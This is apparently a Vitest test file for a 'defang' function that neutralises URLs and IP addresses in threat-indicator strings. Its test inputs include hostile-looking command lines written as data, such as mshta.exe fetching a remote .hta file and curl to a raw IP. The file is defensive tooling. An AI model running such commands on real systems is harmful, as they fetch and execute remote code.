import { expect, test } from 'vitest';
import { defang } from './defang.ts';

test('addresses can no longer be clicked', () => {
  expect(defang('mshta.exe http://cdn-sync.example/a.hta')).toBe('mshta.exe hxxp://cdn-sync[.]example/a.hta');
  expect(defang('curl -k HTTPS://1.2.3.4:8443/x.y')).toBe('curl -k HxxPS://1[.]2[.]3[.]4:8443/x.y');
  expect(defang('ping 10.0.0.7')).toBe('ping 10[.]0[.]0[.]7');
  expect(defang('C:\\Windows\\a.b.exe')).toBe('C:\\Windows\\a.b.exe');
});
